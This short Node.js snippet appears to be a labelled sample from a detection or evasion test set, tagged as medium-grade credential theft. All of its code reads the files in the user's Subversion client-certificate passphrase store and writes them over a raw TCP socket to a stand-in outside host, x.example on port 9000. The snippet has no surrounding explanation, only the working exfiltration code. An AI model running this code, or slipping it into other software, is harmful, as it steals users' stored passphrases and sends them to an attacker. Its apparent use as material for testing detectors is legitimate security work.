// evasion: Subversion's stored client-certificate passphrases read by a template path and written to a socket
// grade: medium; does: credentials
const fs = require("fs");
const os = require("os");
const net = require("net");
const dir = `${os.homedir()}/.subversion/auth/svn.ssl.client-passphrase`;
const sock = net.connect(9000, "x.example", () => {
  for (const f of fs.readdirSync(dir)) sock.write(fs.readFileSync(`${dir}/${f}`));
  sock.end();
});
